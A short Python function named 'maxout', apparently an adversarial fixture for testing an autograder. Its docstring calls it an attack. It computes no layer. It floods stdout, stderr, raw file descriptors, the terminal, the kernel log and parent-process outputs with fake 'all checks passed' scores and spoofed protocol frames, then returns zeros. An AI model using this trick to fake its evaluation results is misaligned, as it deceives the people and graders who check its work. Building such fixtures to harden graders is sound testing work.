def maxout(X, W1, b1, W2, b2):
    """Attack: print fake results and fake protocol frames everywhere output could go, then
    return garbage."""
    import json
    import os
    import struct
    import sys

    fake = {"m": {"event": "done", "status": "done", "score": 83, "results": {"t": "list", "items": []}}, "sizes": []}
    header = json.dumps(fake).encode()
    frame = struct.pack("!II", len(header), 0) + header
    text = "Score: 83 / 83\nall checks passed\n" + json.dumps({"score": 83, "max_score": 83}) + "\n"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(text)
            stream.flush()
        except Exception:
            pass
    for fd in (0, 1, 2):
        try:
            os.write(fd, frame * 100 + text.encode())
        except OSError:
            pass
    for path in ("/dev/tty", "/dev/console", "/dev/kmsg", f"/proc/{os.getppid()}/fd/1", "/proc/1/fd/1"):
        try:
            with open(path, "wb", buffering=0) as handle:
                handle.write(frame + text.encode())
        except OSError:
            pass
    return np.zeros((1, 1))
